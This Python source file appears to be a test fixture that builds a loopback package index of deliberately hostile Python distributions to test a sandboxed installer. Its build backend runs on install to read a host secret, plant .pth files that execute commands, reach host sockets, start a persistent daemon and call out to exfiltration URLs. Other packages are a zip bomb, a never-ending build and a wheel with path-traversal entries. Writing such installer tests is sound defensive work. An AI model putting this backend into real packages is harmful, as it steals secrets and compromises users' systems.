"""The hostile-install suite's package index: packages built here, served on loopback.

    python3 index.py build OUT_DIR CONFIG_JSON   writes the distributions into OUT_DIR
    python3 index.py serve DIR LOG               serves DIR on 127.0.0.1 as a PEP 503 index at
                                                 /simple/ (prints the port), one line per request in
                                                 LOG

The distributions (stdlib only, no build requirements):

- goodpkg-1.0 (wheel): `VALUE = "good"`.
- otherpkg-1.0 (wheel): `VALUE = "other"`; a later run of another package.
- evilbuild-1.0 (sdist only, an in-tree PEP 517 backend): at build time it reads the host secret,
  writes outside its staging directory (HOME, beside HOME, the index, every environment it can find,
  the installer cache, /tmp), connects to a host Unix socket (by path and abstract), starts a
  daemon meant to outlive the install, phones home to the index, and puts what it managed into the
  wheel it builds (`evilbuild.RESULTS`).
- srconly-1.0 (sdist only): the same backend, for the cases that show when a build runs.
- slowbuild-1.0 (sdist only): its build never ends, and starts a child of its own.
- zipbomb-1.0 (wheel): one member of `bomb_bytes` zeros, a few MiB compressed.
- traversal-1.0 (wheel): members named `../../...` and `/tmp/...`.
"""

from __future__ import annotations

import base64
import hashlib
import http.server
import io
import json
import os
import sys
import tarfile
import threading
import zipfile

BACKEND = r'''
import base64, glob, hashlib, json, os, socket, sys, time, zipfile, urllib.request

CONFIG = json.loads(__CONFIG__)
NAME, VERSION = CONFIG["name"], "1.0"


def get_requires_for_build_wheel(config_settings=None):
    return []


def _attempts():
    results = {}
    try:
        results["secret"] = open(CONFIG["secret"]).read()
    except OSError as e:
        results["secret"] = "refused: %s" % e.strerror
    results["home_listing"] = _try(lambda: os.listdir(CONFIG["home"]))
    written = []
    targets = list(CONFIG["targets"])
    targets += [os.path.join(d, "evil.pth") for d in glob.glob(os.path.join(CONFIG["env_root"], "envs", "*", "site"))]
    for target in targets:
        try:
            os.makedirs(os.path.dirname(target), exist_ok=True)
            with open(target, "w") as f:
                f.write("import os; os.system('touch %s')\n" % CONFIG["pth_marker"])
            written.append(target)
        except OSError:
            pass
    results["written"] = written
    for kind, address in (("path", CONFIG["socket"]), ("abstract", "\0" + CONFIG["abstract"])):
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        try:
            s.settimeout(2)
            s.connect(address)
            s.sendall(b"evil was here")
            results["socket_" + kind] = "connected"
        except OSError as e:
            results["socket_" + kind] = "refused: %s" % e
        finally:
            s.close()
    # A daemon that tries to outlive the install: double fork, its own session, a marker in argv.
    pid = os.fork()
    if pid == 0:
        os.setsid()
        if os.fork() == 0:
            for fd in range(0, 256):
                try:
                    os.close(fd)
                except OSError:
                    pass
            os.execv("/bin/sleep", ["sleep", CONFIG["daemon_marker"]])
        os._exit(0)
    os.waitpid(pid, 0)
    results["phoned_home"] = _try(lambda: urllib.request.urlopen(CONFIG["phone_home"] + "/" + NAME, timeout=5).status)
    # Anything but the index: another server of the host's, by its address.
    results["exfiltrated"] = _try(lambda: urllib.request.urlopen(CONFIG["exfiltrate"], timeout=5).status)
    return results


def _try(f):
    try:
        return f()
    except Exception as e:
        return "refused: %s" % e


def _record_hash(data):
    return "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    if CONFIG.get("slow"):
        if os.fork() == 0:
            os.setsid()
            os.execv("/bin/sleep", ["sleep", CONFIG["slow_marker"]])
        time.sleep(3600)
    results = _attempts()
    module = "RESULTS = %r\n" % (results,)
    files = {
        NAME + ".py": module.encode(),
        "%s-%s.dist-info/METADATA" % (NAME, VERSION): ("Metadata-Version: 2.1\nName: %s\nVersion: %s\n" % (NAME, VERSION)).encode(),
        "%s-%s.dist-info/WHEEL" % (NAME, VERSION): b"Wheel-Version: 1.0\nGenerator: hostile\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = "".join("%s,%s,%d\n" % (k, _record_hash(v), len(v)) for k, v in files.items())
    record += "%s-%s.dist-info/RECORD,,\n" % (NAME, VERSION)
    filename = "%s-%s-py3-none-any.whl" % (NAME, VERSION)
    with zipfile.ZipFile(os.path.join(wheel_directory, filename), "w") as z:
        for k, v in files.items():
            z.writestr(k, v)
        z.writestr("%s-%s.dist-info/RECORD" % (NAME, VERSION), record)
    return filename
'''


def record_hash(data: bytes) -> str:
    return "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()


def wheel(out: str, name: str, files: dict[str, bytes]) -> None:
    dist = f"{name}-1.0.dist-info"
    files = dict(files)
    files[f"{dist}/METADATA"] = f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n".encode()
    files[f"{dist}/WHEEL"] = b"Wheel-Version: 1.0\nGenerator: hostile\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    record = "".join(f"{k},{record_hash(v)},{len(v)}\n" for k, v in files.items())
    files[f"{dist}/RECORD"] = (record + f"{dist}/RECORD,,\n").encode()
    with zipfile.ZipFile(os.path.join(out, f"{name}-1.0-py3-none-any.whl"), "w", zipfile.ZIP_DEFLATED) as z:
        for k, v in files.items():
            z.writestr(k, v)


def sdist(out: str, name: str, config: dict) -> None:
    backend = BACKEND.replace("__CONFIG__", repr(json.dumps(config)))
    members = {
        "pyproject.toml": (
            f'[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
            f'[project]\nname = "{name}"\nversion = "1.0"\n'
        ).encode(),
        "PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n".encode(),
        "backend.py": backend.encode(),
    }
    with tarfile.open(os.path.join(out, f"{name}-1.0.tar.gz"), "w:gz") as tar:
        for member, data in members.items():
            info = tarfile.TarInfo(f"{name}-1.0/{member}")
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))


def zipbomb(out: str, size: int) -> None:
    dist = "zipbomb-1.0.dist-info"
    chunk = b"\0" * (1 << 20)
    digest = hashlib.sha256()
    for _ in range(size // len(chunk)):
        digest.update(chunk)
    bomb_hash = "sha256=" + base64.urlsafe_b64encode(digest.digest()).rstrip(b"=").decode()
    meta = {
        f"{dist}/METADATA": b"Metadata-Version: 2.1\nName: zipbomb\nVersion: 1.0\n",
        f"{dist}/WHEEL": b"Wheel-Version: 1.0\nGenerator: hostile\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        "zipbomb/__init__.py": b"",
    }
    record = "".join(f"{k},{record_hash(v)},{len(v)}\n" for k, v in meta.items())
    record += f"zipbomb/zeros.bin,{bomb_hash},{size}\n{dist}/RECORD,,\n"
    with zipfile.ZipFile(os.path.join(out, "zipbomb-1.0-py3-none-any.whl"), "w", zipfile.ZIP_DEFLATED) as z:
        for k, v in meta.items():
            z.writestr(k, v)
        with z.open("zipbomb/zeros.bin", "w", force_zip64=True) as f:
            for _ in range(size // len(chunk)):
                f.write(chunk)
        z.writestr(f"{dist}/RECORD", record)


def build(out: str, config: dict) -> None:
    os.makedirs(out, exist_ok=True)
    wheel(out, "goodpkg", {"goodpkg.py": b'VALUE = "good"\n'})
    wheel(out, "otherpkg", {"otherpkg.py": b'VALUE = "other"\n'})
    sdist(out, "evilbuild", {**config, "name": "evilbuild"})
    sdist(out, "srconly", {**config, "name": "srconly"})
    sdist(out, "slowbuild", {**config, "name": "slowbuild", "slow": True})
    zipbomb(out, config["bomb_bytes"])
    wheel(
        out,
        "traversal",
        {
            "traversal.py": b"VALUE = 1\n",
            "../../../../../../../../tmp/" + config["traversal_name"]: b"x = 1\n",
            "/tmp/" + config["traversal_name"] + "-abs": b"x = 1\n",
        },
    )


def serve(directory: str, log: str) -> None:
    log_file = open(log, "a", buffering=1)
    lock = threading.Lock()

    def project(filename: str) -> str:
        return filename.split("-", 1)[0].lower().replace("_", "-")

    class Handler(http.server.SimpleHTTPRequestHandler):
        def __init__(self, *args, **kwargs):
            super().__init__(*args, directory=directory, **kwargs)

        def do_GET(self):
            if not self.path.startswith("/simple/"):
                return super().do_GET()
            wanted = self.path[len("/simple/") :].strip("/")
            files = sorted(os.listdir(directory))
            if wanted:
                links = [f for f in files if project(f) == wanted]
                body = "".join(f'<a href="/{f}">{f}</a>\n' for f in links)
            else:
                links = sorted({project(f) for f in files})
                body = "".join(f'<a href="/simple/{p}/">{p}</a>\n' for p in links)
            if wanted and not links:
                self.send_error(404)
                return
            data = f"<!DOCTYPE html><html><body>\n{body}</body></html>\n".encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        def log_message(self, format, *args):
            with lock:
                log_file.write(self.path + "\n")

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    print(server.server_address[1], flush=True)

    def exit_with_parent():
        # The test holds our stdin: when it exits (a static is never dropped), so do we.
        sys.stdin.read()
        os._exit(0)

    threading.Thread(target=exit_with_parent, daemon=True).start()
    server.serve_forever()


if __name__ == "__main__":
    if sys.argv[1] == "build":
        build(sys.argv[2], json.loads(sys.argv[3]))
    elif sys.argv[1] == "serve":
        serve(sys.argv[2], sys.argv[3])
    else:
        sys.exit(f"usage: {sys.argv[0]} build OUT CONFIG | serve DIR LOG")
